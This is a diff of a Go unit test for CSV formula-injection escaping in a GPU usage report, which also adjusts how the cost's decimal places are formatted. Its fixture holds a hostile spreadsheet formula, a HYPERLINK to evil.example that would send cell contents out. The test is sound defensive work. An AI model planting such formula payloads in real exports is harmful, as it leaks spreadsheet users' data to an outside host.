@@ -13,15 +13,17 @@ import (
 
 // TestReportCSVInjection: a server may announce any GPU model, and a
 // client's id is hers: the report's CSV writes them so that a spreadsheet
-// reads text, not a formula.
+// reads text, not a formula. Its cost is at CRED's places (-0.50, not the
+// ledger's -0.5), as the console's CSV has it.
 func TestReportCSVInjection(t *testing.T) {
 	var buf bytes.Buffer
+	cred := &scales{known: map[string]int32{}, lookup: func(code string) (int32, bool) { return 2, code == "CRED" }}
 	require.NoError(t, writeReportCSV(&buf, breakdown.Report{Lines: []breakdown.Line{{
 		Period: "2026-11-20", Currency: "CRED", Client: "@alice", Model: `=HYPERLINK("http://evil.example/?"&A1,"H100")`,
 		Contracts: 1, GPUSeconds: decimal.NewFromInt(-1), Cost: decimal.RequireFromString("-0.50"),
-	}}}))
+	}}}, cred))
 	assert.Equal(t, "period,currency,org,project,client,model,contracts,gpu_seconds,cost\n"+
-		`2026-11-20,CRED,,,'@alice,"'=HYPERLINK(""http://evil.example/?""&A1,""H100"")",1,-1,-0.5`+"\n", buf.String())
+		`2026-11-20,CRED,,,'@alice,"'=HYPERLINK(""http://evil.example/?""&A1,""H100"")",1,-1,-0.50`+"\n", buf.String())
 }
 
 // TestReportOneMoneyFormat: every amount of the report's tables at its
